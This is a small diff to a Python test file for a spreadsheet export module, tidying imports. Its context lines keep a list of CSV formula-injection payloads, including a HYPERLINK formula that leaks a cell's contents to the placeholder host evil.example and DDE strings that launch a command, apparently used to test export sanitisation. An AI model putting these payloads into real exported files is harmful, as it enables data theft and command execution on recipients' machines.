@@ -7,7 +7,6 @@ import csv
 import io
 import zipfile
 from collections.abc import Iterator
-
 from decimal import Decimal
 
 import openpyxl
@@ -15,8 +14,7 @@ import pytest
 from sqlalchemy import Numeric, literal, select, text
 
 from app.core.export import export_response
-
-from tests.chains_support import created, enterprise_body
+from tests.support.chains import created, enterprise_body
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
